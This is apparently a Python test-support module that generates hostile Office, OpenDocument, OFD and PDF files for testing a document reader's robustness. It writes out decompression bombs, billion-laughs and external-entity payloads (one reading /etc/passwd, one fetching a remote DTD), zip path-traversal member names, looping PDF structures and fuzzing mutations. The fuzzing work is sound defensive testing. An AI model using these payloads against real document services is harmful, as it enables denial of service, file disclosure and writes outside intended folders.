"""Makes documents that attack the reader, by family: (name, bytes). Made by script, with invented content."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator, Mapping

from tests.hostile.documents.layouts import layouts
from tests.reading.documents.stored import stored
from tests.support import open_document_files as odf
from tests.support.fixed_layout_files import ofd, pdf
from tests.support.office_files import letter, part, repacked, slides, table
from tests.support.pictures import bomb

_WORD = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
MEGABYTE = 1 << 20


def body(inside: bytes, before: bytes = b"") -> bytes:
    """Return a docx with this inside its document part, and ``before`` in front of its root."""
    return repacked(letter(), {"word/document.xml": before + b"<w:document " + _WORD + b"><w:body>" + inside
                               + b"</w:body></w:document>"})


def bombs() -> Iterator[tuple[str, bytes]]:
    """Small files that unpack to much."""
    yield "docx-120-mb-of-text", body(b"<w:p><w:r><w:t>" + b"a" * (120 * MEGABYTE) + b"</w:t></w:r></w:p>")
    yield "docx-18-mb-of-elements", body(b"<w:p/>" * (3 * MEGABYTE))
    yield "docx-120-mb-of-space", body(b"", b" " * (120 * MEGABYTE))
    yield "xlsx-120-mb-of-strings", repacked(table(), {"xl/sharedStrings.xml":
                                                       b"<sst><si><t>" + b"b" * (120 * MEGABYTE) + b"</t></si></sst>"})
    yield "xlsx-one-string-half-a-million-times", repacked(table(), {
        "xl/sharedStrings.xml": b"<sst><si><t>" + b"c" * 32000 + b"</t></si></sst>",
        "xl/worksheets/sheet1.xml": b"<worksheet><sheetData><row>"
                                    + b'<c t="s"><v>0</v></c></row><row>' * (MEGABYTE // 2)
                                    + b"</row></sheetData></worksheet>"})
    yield "docx-picture-of-400-megapixels", repacked(letter(), {"word/media/a.png": bomb(20000, 20000)})
    yield "xlsx-format-of-200000-characters", repacked(table(), {
        "xl/styles.xml": b'<styleSheet><numFmts><numFmt numFmtId="170" formatCode="' + "&quot;机".encode() * 100_000
                         + b'"/></numFmts><cellXfs><xf numFmtId="170"/></cellXfs></styleSheet>',
        "xl/worksheets/sheet1.xml": b"<worksheet><sheetData><row>" + b'<c s="0"><v>5</v></c>' * 300_000
                                    + b"</row></sheetData></worksheet>"})
    yield "docx-9900-parts-of-unknown-kinds", repacked(letter(), {
        f"word/{number}.{('dat', 'xml')[number % 2]}": (b'<?xml version="1.0"?><a>', bytes(range(256)))[1 - number % 2]
        for number in range(9_900)})
    yield "docx-20000-parts", repacked(letter(), {f"word/header{number}.xml": b"" for number in range(20_000)})
    yield "docx-5000-pictures", repacked(letter(), {f"word/media/{number}.png": b"\x89PNG\r\n\x1a\n" for number in
                                                    range(5000)})
    yield "ofd-one-page-a-million-times", repacked(ofd([[(1, 1, "g")]]), {
        "Doc_0/Document.xml": b"<Document><Pages>" + b'<Page BaseLoc="Pages/Page_0/Content.xml"/>' * MEGABYTE
        + b"</Pages></Document>"})


def entities() -> Iterator[tuple[str, bytes]]:
    """Document type declarations: entities that grow, that are quoted, that name files and addresses."""
    laughs = b"".join(b'<!ENTITY l%d "%s">' % (number, b"&l%d;" % (number - 1) * 10) for number in range(1, 10))
    yield "billion-laughs", body(b"<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>",
                                 b'<!DOCTYPE x [<!ENTITY l0 "lol">' + laughs + b"]>")
    long = b"h" * 100_000
    yield "quoted-entity", body(b"<w:p><w:r><w:t>" + b"&q;" * 50_000 + b"</w:t></w:r></w:p>",
                                b'<!DOCTYPE x [<!ENTITY q "' + long + b'">]>')
    yield "entity-of-a-file", body(b"<w:p><w:r><w:t>&f;</w:t></w:r></w:p>",
                                   b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>')
    yield "entity-of-an-address", body(b"<w:p><w:r><w:t>&f;</w:t></w:r></w:p>",
                                       b'<!DOCTYPE x [<!ENTITY % f SYSTEM "http://192.0.2.1/a.dtd"> %f;]>')
    attack = b'<!DOCTYPE x [<!ENTITY l0 "lol">' + laughs + b"]>"
    for name, whole, target in (("xlsx-workbook", table(), "xl/workbook.xml"), ("pptx-main", slides(),
                                "ppt/presentation.xml"), ("ofd-main", ofd([[]]), "OFD.xml"),
                                ("docx-relations", letter(), "docProps/core.xml")):
        yield f"laughs-in-{name}", repacked(whole, {target: attack + b"<x>&l9;</x>"})


def shapes() -> Iterator[tuple[str, bytes]]:
    """Wrong structure: too deep, cut, mixed up, names that lead outside."""
    yield "10000-deep", body(b"<w:p>" * 10_000 + b"<w:r><w:t>i</w:t></w:r>" + b"</w:p>" * 10_000)
    yield "a-million-attributes", body(b"<w:p " + b" ".join(b'a%d=""' % number for number in range(300_000)) + b"/>")
    yield "names-that-lead-outside", repacked(letter(), {"../../../../tmp/escaped": b"j", "/etc/escaped": b"j",
                                                         "word/../../escaped": b"j"})
    yield "relations-that-lead-outside", repacked(slides(), {"ppt/_rels/presentation.xml.rels":
        part(slides(), "ppt/_rels/presentation.xml.rels").replace(b"slides/", b"../../../../etc/")})
    yield "document-part-is-a-picture", repacked(letter(), {"word/document.xml": b"\x89PNG\r\n\x1a\n"})
    yield "document-part-is-empty", repacked(letter(), {"word/document.xml": b""})
    yield "no-document-part", _without(letter(), "word/document.xml")
    yield "no-workbook-relations", _without(table(), "xl/_rels/workbook.xml.rels")
    yield "cells-that-name-no-string", repacked(table(), {"xl/worksheets/sheet1.xml":
        b'<worksheet><sheetData><row><c t="s" r="ZZZ9"><v>99999999999999</v></c><c s="99999999999" t="n"><v>1e999</v>'
        b"</c></row></sheetData></worksheet>"})
    yield "encrypted-member", _flagged(letter())
    yield "documents-inside-each-other", _nested(20)
    whole = letter()
    for share in range(1, 10):
        yield f"docx-cut-at-{share}0-per-cent", whole[: len(whole) * share // 10]


def fixed() -> Iterator[tuple[str, bytes]]:
    """PDF files: bombs, loops, lies."""
    content = zlib.compress(b"BT /F1 9 Tf " + b"(k) Tj " * (8 * MEGABYTE) + b"ET")
    yield "pdf-56-mb-of-operators", _pdf({4: b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (
        len(content), content)})
    yield "pdf-pages-in-a-ring", _pdf({2: b"<</Type/Pages/Kids[2 0 R]/Count 1000000>>"})
    yield "pdf-a-million-pages", _pdf({2: b"<</Type/Pages/Kids[" + b"3 0 R " * 100_000 + b"]/Count 100000>>"})
    yield "pdf-page-of-a-kilometre", _pdf({3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 3000000 3000000]"
                                              b"/Contents 4 0 R>>"})
    yield "pdf-root-is-itself", _pdf({1: b"1 0 R"})
    yield "pdf-stream-without-end", _pdf({4: b"<</Length 999999999>>stream\n"})
    whole = pdf(["机密★5年"] * 5)
    for share in range(1, 10):
        yield f"pdf-cut-at-{share}0-per-cent", whole[: len(whole) * share // 10]


def compounds() -> Iterator[tuple[str, bytes]]:
    """doc, xls and ppt: chains in rings, false lengths, containers in containers."""
    for name in ("doc", "xls", "ppt"):
        whole = stored(name)
        yield f"{name}-sectors-in-a-ring", _ring(whole)
        yield f"{name}-header-only", whole[:512]
        yield f"{name}-of-ff", whole[:512] + b"\xff" * (len(whole) - 512)
        for share in range(1, 10, 2):
            yield f"{name}-cut-at-{share}0-per-cent", whole[: len(whole) * share // 10]
    doc = bytearray(stored("doc"))
    start = doc.index(b"\xec\xa5\x01\x01")
    struct.pack_into("<II", doc, start + 0x01A2, 0, 0xFFFFFFFF)
    yield "doc-pieces-everywhere", bytes(doc)
    ppt = stored("ppt")
    yield "ppt-a-record-of-4-gb", ppt.replace(b"\xa0\x0f", b"\xa0\x0f\xff\xff\xff\xff"[:2], 1).replace(
        struct.pack("<HHI", 0, 0x0FA0, 8), struct.pack("<HHI", 0, 0x0FA0, 0xFFFFFFF0))


def open_documents() -> Iterator[tuple[str, bytes]]:
    """OpenDocument: endless rows and blanks, objects in a ring, entities, depth, invalid pictures."""
    body = part(odf.letter(), "content.xml")
    sheet = part(odf.table(), "content.xml")
    yield "ods-a-billion-rows-of-a-billion-cells", repacked(odf.table(), {"content.xml": sheet.replace(
        b"<table:table-cell><text:p>", b'<table:table-cell table:number-columns-repeated="999999999"><text:p>').replace(
        b"<table:table-row>", b'<table:table-row table:number-rows-repeated="999999999">')})
    yield "odt-a-billion-blanks", repacked(odf.letter(), {"content.xml": body.replace(
        b'<text:s text:c="2"/>', b'<text:s text:c="999999999"/>' * 10_000)})
    yield "odt-object-in-itself", repacked(odf.letter(), {"Object 1/content.xml": body.replace(
        b"./Object 1", b"../Object 1")})
    yield "odt-10000-notes-inside-each-other", repacked(odf.letter(), {"content.xml": body.replace(
        "脚注标记".encode(), b"<text:note><text:p>" * 10_000 + b"x" + b"</text:p></text:note>" * 10_000)})
    yield "odt-120-mb-of-text", repacked(odf.letter(), {"content.xml": body.replace(
        "脚注标记".encode(), b"a" * (120 * MEGABYTE))})
    yield "odt-3-million-empty-paragraphs", repacked(odf.letter(), {"content.xml": body.replace(
        "<text:p>形状标记</text:p>".encode(), b"<text:p/>" * (3 * MEGABYTE))})
    laughs = b"".join(b'<!ENTITY l%d "%s">' % (number, b"&l%d;" % (number - 1) * 10) for number in range(1, 10))
    attack = b'<!DOCTYPE x [<!ENTITY l0 "lol">' + laughs + b"]>"
    yield "odt-billion-laughs", repacked(odf.letter(), {"content.xml": attack + body[body.index(b"<office"):]})
    flat = odf.flat(odf.letter())
    yield "fodt-billion-laughs", flat.replace(b"<office:document ", attack + b"<office:document ")
    yield "fodt-picture-that-is-none", odf.flat(odf.letter(b"\x89PNG\r\n\x1a\n"))
    for name, whole in (("odt", odf.letter()), ("fodt", flat)):
        for share in range(1, 10, 2):
            yield f"{name}-cut-at-{share}0-per-cent", whole[: len(whole) * share // 10]


def mutations(seed: int, count: int) -> Iterator[tuple[str, bytes]]:
    """Yield ``count`` damaged documents of every format: bytes changed, cut out, repeated."""
    chance = random.Random(seed)
    originals: Mapping[str, bytes] = {
        "docx": letter(), "xlsx": table(), "pptx": slides(), "pdf": pdf(["机密★5年", "第二页"]),
        "ofd": ofd([[(1, 1, "机密")]]), "doc": stored("doc"), "xls": stored("xls"), "ppt": stored("ppt")[:200_000],
        "odt": odf.letter(), "ods": odf.table(), "fodp": odf.flat(odf.slides())}
    for number in range(count):
        name = list(originals)[number % len(originals)]
        changed = bytearray(originals[name])
        for _ in range(chance.choice((1, 4, 32))):
            at = chance.randrange(len(changed))
            match chance.randrange(3):
                case 0:
                    changed[at] = chance.randrange(256)
                case 1:
                    changed[at:at + 4] = struct.pack("<I", chance.choice((0, 1, 0x7FFFFFFF, 0xFFFFFFFF, 0x80000000)))
                case _:
                    changed[at:at] = changed[at:at + chance.randrange(1, 64)]
        yield f"{name}-mutation-{seed}-{number}", bytes(changed)


FAMILIES = (bombs, entities, shapes, fixed, layouts, compounds, open_documents)


def _without(untrusted_bytes: bytes, name: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(untrusted_bytes)) as old, zipfile.ZipFile(out, "w") as new:
        for info in old.infolist():
            if info.filename != name:
                new.writestr(info.filename, old.read(info))
    return out.getvalue()


def _flagged(untrusted_bytes: bytes) -> bytes:
    """Set the flag that a member is encrypted, in every header (APPNOTE 4.4.4)."""
    changed = bytearray(untrusted_bytes)
    for signature, flag in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.find(signature)
        while at >= 0:
            changed[at + flag] |= 1
            at = changed.find(signature, at + 4)
    return bytes(changed)


def _nested(depth: int) -> bytes:
    inner = letter()
    for _ in range(depth):
        inner = repacked(letter(), {"word/embeddings/a.docx": inner})
    return inner


def _ring(untrusted_bytes: bytes) -> bytes:
    """Make every chain of sectors lead back to its first one."""
    table_at = 512 + 512 * struct.unpack_from("<I", untrusted_bytes, 76)[0]
    ring = struct.pack("<128I", *([0] * 128))
    return untrusted_bytes[:table_at] + ring + untrusted_bytes[table_at + len(ring):]


def _pdf(changes: Mapping[int, bytes]) -> bytes:
    objects = {1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
               3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
               4: b"<</Length 30>>stream\nBT /F1 9 Tf (words) Tj ET\nendstream",
               5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>", **changes}
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number in sorted(objects):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start))
